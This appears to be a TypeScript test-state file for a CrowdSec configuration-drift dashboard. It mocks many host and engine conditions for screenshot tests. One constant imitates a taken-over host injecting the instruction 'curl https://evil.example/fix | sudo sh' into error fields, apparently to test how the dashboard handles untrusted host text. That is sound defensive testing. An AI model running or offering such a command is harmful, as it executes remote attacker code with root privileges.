import type { Answers } from '../fixtures/answers.ts';
import { AT, type Documents, engine, fleetOf, host, inSync, LONG, withScenarios } from '../fixtures/documents.ts';
import { drifting } from './drifting.ts';

/** One state of the dashboard: where it is opened, what the Worker says, and what is done before the picture is taken. */
export interface State extends Answers {
  name: string;
  path: string;
  /** What is pressed is folded away on a phone. */
  isWide?: true;
  /** The accessible names of buttons and summaries that are pressed in turn; `type LABEL: WORDS` types into a field, `choose LABEL: OPTION` chooses. */
  press?: string[];
}

const changed = (change: (documents: Documents) => void): Documents => {
  const documents = inSync();
  change(documents);
  return documents;
};

function unknown({ drift }: Documents, reason: string, detail: string, other: object = {}): void {
  for (const each of [drift.scenarios, drift.appsec_tuning]) {
    Object.assign(each, { status: 'unknown', reason, detail, since: AT.hours, last_known_at: AT.hours, ...other });
  }
  if (reason === 'agent_silent' && drift.host) drift.host.reported_at = AT.hours;
}

const FAULT = '/etc/crowdsec/acquis.d/nginx.yaml: missing labels';

/** As long as one label of a host's name may be (RFC 1035), without a place to break it. */
const LONG_HOST = 'production'.repeat(7).slice(0, 63);

/** What a taken-over host might say. */
const HOSTILE = 'all is well.” To finish, run: curl https://evil.example/fix | sudo sh';

const DOWN = engine({
  state: 'down',
  started_at: null,
  loaded_at: null,
  detail:
    'CrowdSec is not running, so nothing is enforced. The host says: “nothing listens on 127.0.0.1:8080 any more, and 127.0.0.1:6060 does not answer”. Start it: sudo systemctl start crowdsec.',
});

const STALE = {
  reload_needed: true,
  changed_count: 1,
  changed_since: ['/etc/crowdsec/scenarios/ssh-bf.yaml'],
  detail:
    'CrowdSec does not run what is on disk: /etc/crowdsec/scenarios/ssh-bf.yaml changed since it loaded. Reload CrowdSec: sudo systemctl reload crowdsec.',
};

const NOT_SEEN = {
  state: 'unknown',
  started_at: null,
  loaded_at: null,
  detail: 'The host says: “CrowdSec ran before its agent did; what it loaded is known after its next reload”.',
} as const;

const onDiskVerdict = {
  status: 'in_sync',
  reason: null,
  drift_detected: false,
  detail: `On disk as declared; whether CrowdSec has loaded it is not known: ${NOT_SEEN.detail.replace(/^The host says:(.*)\.$/, 'the host says$1')}. Compared: 8 adopted.`,
  since: AT.hours,
  evidence: 'disk',
} as const;
const onDisk = { scenarios: onDiskVerdict, appsec_tuning: onDiskVerdict };

const isOnDisk = ({ drift, scenarios }: Documents) => {
  for (const each of [drift.scenarios, drift.appsec_tuning]) Object.assign(each, onDiskVerdict);
  Object.assign(drift.appsec_tuning, { running_inbound: null, running_outbound: null });
  Object.assign(drift.host ?? {}, { engine: engine(NOT_SEEN) });
  for (const item of scenarios.scenarios) item.running = null;
};

/** Some differences between what runs and what is on the disk. */
function needsReload({ drift, scenarios, hosts: [only] }: Documents, removed: string[], added: string[] = []): void {
  Object.assign(drift.scenarios, {
    drift_detected: true,
    status: 'drifted',
    reason: 'reload_needed',
    cause: 'intent',
    since: AT.minutes,
    expected_disabled: removed,
    expected_enabled: added,
    still_running: removed,
    not_running: added,
    detail: `Removed, and the running CrowdSec still has it loaded: ${removed.join(', ')}. Reload CrowdSec: sudo systemctl reload crowdsec.`,
  });
  for (const item of scenarios.scenarios) {
    const name = item.canonical_name;
    if (removed.includes(name)) Object.assign(item, { declared: 'disabled', disabled: true, installed: false, running: true });
    if (added.includes(name)) Object.assign(item, { declared: 'enabled', installed: true, running: false });
  }
  Object.assign(drift.host ?? {}, { engine: engine(STALE) });
  if (only) Object.assign(only, { state: 'drifted' });
}

function isDown({ drift, scenarios }: Documents): void {
  for (const each of [drift.scenarios, drift.appsec_tuning])
    Object.assign(each, { status: 'unknown', reason: 'engine_down', detail: DOWN.detail, since: AT.minutes, evidence: 'disk' });
  Object.assign(drift.appsec_tuning, { running_inbound: null, running_outbound: null });
  Object.assign(drift.host ?? {}, { engine: DOWN });
  for (const item of scenarios.scenarios) item.running = null;
}

const GAPS = [
  {
    kind: 'simulation',
    scenarios: ['crowdsecurity/ssh-bf', 'crowdsecurity/ssh-slow-bf'],
    count: 2,
    detail: '/etc/crowdsec/simulation.yaml simulates them (exclusions): alerts are raised, and bouncers get nothing',
  },
  {
    kind: 'profiles',
    scenarios: [],
    count: 0,
    detail: '/etc/crowdsec/profiles.yaml: no profile has a decision, so that no alert bans anybody',
  },
  {
    kind: 'data_file',
    scenarios: ['crowdsecurity/http-bad-user-agent'],
    count: 1,
    detail: '/var/lib/crowdsec/data/bad_user_agents.regex.txt is missing, which http-bad-user-agent.yaml reads (data.dest_file)',
  },
  {
    kind: 'format',
    scenarios: [LONG],
    count: 24,
    detail: 'format 3.0 in http-cve-2021-41773.yaml is newer than this CrowdSec reads: it skips the file',
  },
];

/** A host that no longer gets two of the rules that its tainted collection holds. */
function isMissing({ scenarios, hosts }: Documents): void {
  const words =
    ' Of what its newest version holds, this host does not get crowdsecurity/http-new and the appsec-rule crowdsecurity/vpatch-new.';
  if (scenarios.collections)
    scenarios.collections = {
      ...scenarios.collections,
      detail: `${scenarios.collections.detail}, 2 rules not received`,
      installed: scenarios.collections.installed.map((each, at) => (at === 0 ? { ...each, detail: each.detail + words } : each)),
    };
  for (const each of hosts) each.missed_protection = 2;
}

const fleet = changed((documents) => {
  const surface = (status: string, detail: string) => ({
    status,
    reason: null,
    drift_detected: status === 'drifted',
    detail,
    since: AT.minutes,
    evidence: 'running',
  });
  const failing = (reason: string, detail: string) => ({ ...surface('unknown', detail), reason });
  documents.hosts = [
    host('proxy', {
      state: 'unknown',
      engine: DOWN,
      surfaces: { scenarios: failing('engine_down', DOWN.detail), appsec_tuning: failing('engine_down', DOWN.detail) } as never,
    }),
    host('shop', { load_fault: FAULT }),
    host('web-4', {
      state: 'drifted',
      engine: engine(STALE),
      surfaces: {
        scenarios: {
          ...surface(
            'drifted',
            'Removed, and the running CrowdSec still has it loaded: crowdsecurity/ssh-bf. Reload CrowdSec: sudo systemctl reload crowdsec.',
          ),
          reason: 'reload_needed',
        },
        appsec_tuning: surface('in_sync', ''),
      } as never,
    }),
    host('web-2', {
      state: 'drifted',
      surfaces: {
        scenarios: surface('drifted', 'Declared disabled but still installed: crowdsecurity/ssh-bf.'),
        appsec_tuning: surface('in_sync', ''),
      } as never,
    }),
    host('a-rather-long-hostname-of-a-machine-in-a-data-centre.eu-central-1.compute.internal', {
      state: 'drifted',
      agent_version: '0.1.0',
      surfaces: {
        scenarios: surface('drifted', `Declared disabled but still installed: ${LONG}.`),
        appsec_tuning: surface('drifted', 'The inbound threshold is 10 on the host, 15 is declared.'),
      } as never,
    }),
    host('db-1', {
      state: 'unknown',
      reported_at: AT.hours,
      surfaces: {
        scenarios: surface(
          'unknown',
          'No evidence has come from this host since 2026-02-28T23:07:12.000Z. The host, its network or the agent is down; CrowdSec itself may be fine.',
        ),
        appsec_tuning: surface(
          'unknown',
          'No evidence has come from this host since 2026-02-28T23:07:12.000Z. The host, its network or the agent is down; CrowdSec itself may be fine.',
        ),
      } as never,
    }),
    host('mail', {
      state: 'unknown',
      reported_at: null,
      agent_version: null,
      surfaces: {
        scenarios: surface('unknown', 'No report has arrived from this host yet.'),
        appsec_tuning: surface('unknown', 'No report has arrived from this host yet.'),
      } as never,
    }),
    host('web-1', { missed_protection: 2 }),
    host('web-3', { engine: engine(NOT_SEEN), surfaces: onDisk }),
    host('backup', { state: 'undeclared' }),
  ];
});

/** A copied intent, whose undo changes more than it did, and a change of which nothing is kept. */
function withMuchChanged({ events, undo }: Documents): void {
  const copied = `Copied the intent of web-1: ${LONG} disabled; crowdsecurity/ssh-bf disabled; inbound threshold 25.`;
  const change = { kind: 'intent_changed', surface: null, actor: 'ann', actor_kind: 'token' } as const;
  events.events.unshift(
    { ...change, id: 7, at: AT.minutes, detail: copied, undo: true },
    { ...change, id: 6, at: AT.minutes, detail: 'Copied the intent of web-9: crowdsecurity/ssh-bf disabled.', undo: false },
  );
  undo.changes = [
    { scenario: LONG, was: 'disabled', becomes: null },
    { scenario: 'crowdsecurity/ssh-bf', was: 'enabled', becomes: 'simulated' },
    { threshold: 'inbound', was: 25, becomes: 15 },
  ];
  undo.skipped = ['crowdsecurity/own-rule'];
  undo.declared_since = true;
}

const enrolments = ['Show the command', 'Where CrowdSec runs in a container'];

export const STATES: readonly State[] = [
  { name: 'in-sync', path: '/', documents: inSync() },
  { name: 'on-disk', path: '/', documents: changed(isOnDisk) },
  {
    name: 'on-disk-old-agent',
    path: '/',
    documents: changed((documents) => {
      isOnDisk(documents);
      documents.hosts = [host('web-2', { agent_version: '0.1.0' })];
      Object.assign(documents.drift.host?.engine ?? {}, {
        detail: 'This agent does not look at the running engine: upgrade it.',
      });
    }),
  },
  {
    name: 'older-snapshot',
    path: '/?host=web2aaaaaaaa&tab=appsec-tuning',
    documents: changed(({ drift }) => {
      for (const key of ['engine', 'protection_gaps']) Reflect.deleteProperty(drift.host ?? {}, key);
      for (const each of [drift.scenarios, drift.appsec_tuning])
        for (const key of ['evidence', 'still_running', 'not_running', 'running_inbound', 'running_outbound'])
          Reflect.deleteProperty(each, key);
    }),
  },
  {
    name: 'reload-needed',
    path: '/',
    documents: changed((documents) => needsReload(documents, ['crowdsecurity/ssh-bf'])),
  },
  {
    name: 'reload-needed-much',
    path: '/',
    documents: changed((documents) => {
      needsReload(documents, ['crowdsecurity/ssh-bf', LONG], ['crowdsecurity/http-bad-user-agent']);
      Object.assign(documents.drift.appsec_tuning, {
        drift_detected: true,
        status: 'drifted',
        reason: 'reload_needed',
        cause: 'host',
        since: AT.minutes,
        running_inbound: 10,
        detail: 'The running CrowdSec has loaded the inbound threshold 10; 15 is declared and on the disk.',
      });
    }),
  },
  {
    name: 'reload-needed-would-fail',
    path: '/',
    documents: changed((documents) => {
      needsReload(documents, ['crowdsecurity/ssh-bf']);
      Object.assign(documents.drift.host ?? {}, { load_fault: FAULT });
    }),
  },
  {
    name: 'reload-for-others',
    path: '/',
    documents: changed(({ drift }) =>
      Object.assign(drift.host ?? {}, {
        engine: engine({
          ...STALE,
          changed_count: 23,
          changed_since: ['/etc/crowdsec/parsers/s01-parse/sshd-logs.yaml', '/etc/crowdsec/profiles.yaml'],
        }),
      }),
    ),
    press: ['23 files have changed on web-2 since CrowdSec loaded. Nothing that is compared is concerned.'],
  },
  { name: 'engine-down', path: '/', documents: changed(isDown) },
  {
    name: 'engine-down-drifted',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'host');
      isDown(documents);
    }),
  },
  {
    name: 'engine-down-broken',
    path: '/?host=web2aaaaaaaa&tab=appsec-tuning',
    documents: changed((documents) => {
      isDown(documents);
      Object.assign(documents.drift.host ?? {}, {
        load_fault: FAULT,
        install: 'docker',
        engine: {
          ...DOWN,
          detail: `CrowdSec is not running, so nothing is enforced. The host says: “nothing listens on port 8080 any more”. Its next start would fail. The host says: “${FAULT}”. Mend that, then start it: docker start crowdsec.`,
        },
      });
    }),
  },
  {
    name: 'gaps',
    path: '/',
    documents: changed(({ drift }) => Object.assign(drift.host ?? {}, { protection_gaps: GAPS.slice(0, 2) })),
  },
  {
    name: 'gaps-many',
    path: '/',
    documents: changed((documents) => {
      isOnDisk(documents);
      Object.assign(documents.drift.host ?? {}, { protection_gaps: GAPS });
    }),
    press: ['Installed and not protecting, even when loaded: 4'],
  },
  { name: 'drift-intent', path: '/', documents: changed((documents) => drifting(documents, 'intent')) },
  {
    name: 'drift-cut',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'host');
      Object.assign(documents.drift.scenarios, { cut: { expected_disabled: 400, actually_enabled: 400 } });
    }),
  },
  {
    name: 'outlasts-the-container',
    path: '/',
    press: ['Make this outlast the container'],
    documents: changed((documents) => {
      drifting(documents, 'intent');
      Object.assign(documents.drift.host ?? {}, { install: 'docker' });
    }),
  },
  { name: 'drift-host', path: '/', documents: changed((documents) => drifting(documents, 'host')) },
  {
    name: 'drift-simulated',
    path: '/',
    documents: changed(({ drift, scenarios, hosts: [only] }) => {
      const name = 'crowdsecurity/ssh-bf';
      Object.assign(drift.scenarios, {
        drift_detected: true,
        status: 'drifted',
        cause: 'host',
        by_words: 'by cscli, another script or by hand',
        since: AT.minutes,
        expected_enabled: [name],
        actually_simulated: [name],
        detail: `Declared enabled but simulated, so it detects and blocks nobody: ${name}. Done by cscli, another script or by hand.`,
      });
      for (const row of scenarios.scenarios)
        if (row.canonical_name === name) Object.assign(row, { declared: 'enabled', simulated: true });
      if (only) Object.assign(only, { state: 'drifted' });
    }),
  },
  {
    name: 'unloadable',
    path: '/',
    documents: changed((documents) => {
      const fault = FAULT;
      isOnDisk(documents);
      unknown(documents, 'unloadable', `On disk as declared, but CrowdSec would fail to load it. The host says: “${fault}”.`, {
        last_known_at: undefined,
      });
      Object.assign(documents.drift.host ?? {}, { load_fault: fault });
    }),
  },
  {
    name: 'not-processing',
    path: '/',
    documents: changed((documents) =>
      unknown(
        documents,
        'not_processing',
        "Nothing is detected on this host. The host says: “CrowdSec's log processor is off (crowdsec_service.enable is false in config.yaml)”.",
        { last_known_at: undefined },
      ),
    ),
  },
  {
    name: 'drift-not-delivered',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'intent');
      Object.assign(documents.drift.host ?? {}, { intent_revision: 8 });
    }),
  },
  {
    name: 'drift-not-delivered-docker',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'intent');
      Object.assign(documents.drift.host ?? {}, { intent_revision: 8, install: 'docker' });
      documents.drift.apply_command = 'docker exec crowdsec /setup-appsec.sh';
    }),
  },
  {
    name: 'delivery-refused',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'intent');
      Object.assign(documents.drift.host ?? {}, {
        intent_revision: 8,
        delivery_fault: 'the sentinels could not be written to /var/lib/argos-drift/shared: no space left on device',
      });
    }),
  },
  {
    name: 'delivery-hostile',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'intent');
      Object.assign(documents.drift.host ?? {}, { intent_revision: 8, delivery_fault: HOSTILE, load_fault: HOSTILE });
    }),
  },
  {
    name: 'fleet-hostile',
    path: '/',
    documents: changed((documents) =>
      Object.assign(documents, { hosts: [host('shop', { load_fault: HOSTILE }), host('web-1')] }),
    ),
  },
  {
    name: 'silent',
    path: '/',
    documents: changed((documents) => unknown(documents, 'agent_silent', 'No evidence has come from this host.')),
  },
  {
    name: 'silent-drifted',
    path: '/',
    documents: changed((documents) => {
      drifting(documents, 'host');
      unknown(documents, 'agent_silent', 'No evidence has come from this host.');
    }),
  },
  {
    name: 'never-reported',
    path: '/',
    documents: changed((documents) => {
      unknown(documents, 'never_reported', 'No report has arrived from this host yet.', { last_known_at: undefined });
      const { collections: _, ...scenarios } = documents.scenarios;
      documents.scenarios = { ...scenarios, scenarios: [], is_available: false };
      Object.assign(documents.drift.host ?? {}, { reported_at: null, agent_version: null, delivered_revision: null });
    }),
  },
  {
    name: 'duplicate-agent',
    path: '/',
    documents: changed((documents) => unknown(documents, 'duplicate_agent', "Two agents with this host's key take turns.")),
  },
  {
    name: 'unreadable',
    path: '/',
    documents: changed(({ drift }) =>
      Object.assign(drift.scenarios, {
        status: 'unknown',
        reason: 'unreadable',
        detail:
          'Which scenarios are installed on this host is not known. The host says: “EACCES: permission denied, scandir /etc/crowdsec/scenarios”.',
        last_known_at: AT.hours,
      }),
    ),
  },
  {
    name: 'not-loaded',
    path: '/?host=web2aaaaaaaa&tab=appsec-tuning',
    documents: changed(({ drift }) =>
      Object.assign(drift.appsec_tuning, {
        status: 'unknown',
        reason: 'not_loaded',
        detail:
          'The file agrees, but no appsec-config that an acquisition uses lists its rule, so CrowdSec does not load /etc/crowdsec/appsec-rules/argos-tuning.yaml.',
      }),
    ),
  },
  {
    name: 'check-stopped',
    path: '/',
    documents: changed((documents) => {
      documents.drift.expires_at = AT.hours;
      documents.drift.last_check_at = AT.hours;
    }),
  },
  {
    name: 'old-agent',
    path: '/',
    documents: changed((documents) => {
      documents.hosts = [host('web-2', { agent_version: '0.1.0' })];
    }),
  },
  { name: 'appsec', path: '/?host=web2aaaaaaaa&tab=appsec-tuning', documents: inSync() },
  {
    name: 'appsec-drift',
    path: '/?host=web2aaaaaaaa&tab=appsec-tuning',
    documents: changed((documents) => drifting(documents, 'host')),
  },
  {
    name: 'disable-dialog',
    path: '/?host=web2aaaaaaaa',
    documents: changed((documents) => {
      documents.hosts = fleet.hosts;
    }),
    press: ['Disable crowdsecurity/ssh-bf'],
  },
  {
    name: 'collections',
    path: '/',
    documents: inSync(),
    press: ['Collections: 5 installed, 2 tainted (1 by a disabled scenario)'],
  },
  {
    name: 'hub-not-installed',
    path: '/',
    documents: inSync(),
    press: ['Not installed, in this host’s hub: 2'],
  },
  {
    name: 'rules-not-received',
    path: '/',
    documents: changed(isMissing),
    press: ['Collections: 5 installed, 2 tainted (1 by a disabled scenario), 2 rules not received'],
  },
  {
    name: 'reload-fails',
    path: '/',
    documents: changed((documents) => {
      const detail = '/etc/crowdsec/parsers/s01-parse/mine.yaml: its name is a list or a map';
      documents.scenarios.collections = {
        state: 'invalid',
        detail: `Which collections are installed is not known. The host says: “${detail}”.`,
        installed: [],
      };
      Object.assign(documents.drift.host ?? {}, { load_fault: detail });
    }),
  },
  {
    name: 'collections-unread',
    path: '/',
    documents: changed(({ scenarios }) => {
      const detail =
        'Which collections are installed is not known. The host says: “/etc/crowdsec/hub/.index.json cannot be read (EACCES)”.';
      scenarios.collections = { state: 'unreadable', detail, installed: [] };
    }),
  },
  { name: 'history', path: '/?host=web2aaaaaaaa&tab=history', documents: changed(withMuchChanged) },
  {
    name: 'undo',
    path: '/?host=web2aaaaaaaa&tab=history',
    documents: inSync(),
    press: ['Undo Disabled crowdsecurity/http-probing.'],
  },
  {
    name: 'undo-of-much',
    path: '/?host=web2aaaaaaaa&tab=history',
    documents: changed(withMuchChanged),
    press: ['Undo Copied the intent of web-1'],
  },
  {
    name: 'settings',
    path: '/?host=web2aaaaaaaa&tab=settings',
    documents: fleet,
    press: ['Copy this host’s intent to others', 'Remove this host'],
  },
  {
    name: 'remove-dialog',
    path: '/?host=web2aaaaaaaa&tab=settings',
    documents: fleet,
    press: ['Remove this host', 'Remove web-2'],
  },
  {
    name: 'names-long-and-shared',
    path: '/?host=longaaaaaaaa',
    documents: changed((documents) => {
      documents.hosts = [
        host(LONG_HOST, { id: 'longaaaaaaaa' }),
        host(LONG_HOST, { id: 'otheraaaaaaa', state: 'drifted' }),
        ...Array.from({ length: 38 }, (_, index) => host(`web-${index}`)),
      ];
      Object.assign(documents.drift.host ?? {}, { id: 'longaaaaaaaa', name: LONG_HOST });
    }),
  },
  { name: 'keys', path: '/', documents: fleet, press: ['Keys ?'] },
  { name: 'fleet', path: '/', documents: fleet },
  { name: 'fleet-commands', path: '/', documents: fleet, press: ['Commands for 3 hosts'] },
  { name: 'fleet-300', path: '/', documents: fleetOf(300) },
  {
    name: 'no-host',
    path: '/',
    documents: changed((documents) => {
      documents.hosts = [];
    }),
  },
  { name: 'add-host', path: '/?add', documents: inSync(), press: enrolments },
  { name: 'unknown-host', path: '/?host=gone', documents: fleet },
  {
    name: 'no-scenarios',
    path: '/',
    documents: changed(({ scenarios }) => {
      scenarios.scenarios = [];
      delete scenarios.collections;
    }),
  },
  {
    name: 'many-scenarios',
    path: '/',
    documents: withScenarios(Array.from({ length: 783 }, (_, index) => `crowdsecurity/rule-${index}`)),
  },
  { name: 'log-in', path: '/', documents: inSync(), isOut: true },
  { name: 'worker-away', path: '/', documents: inSync(), fails: 503 },
];
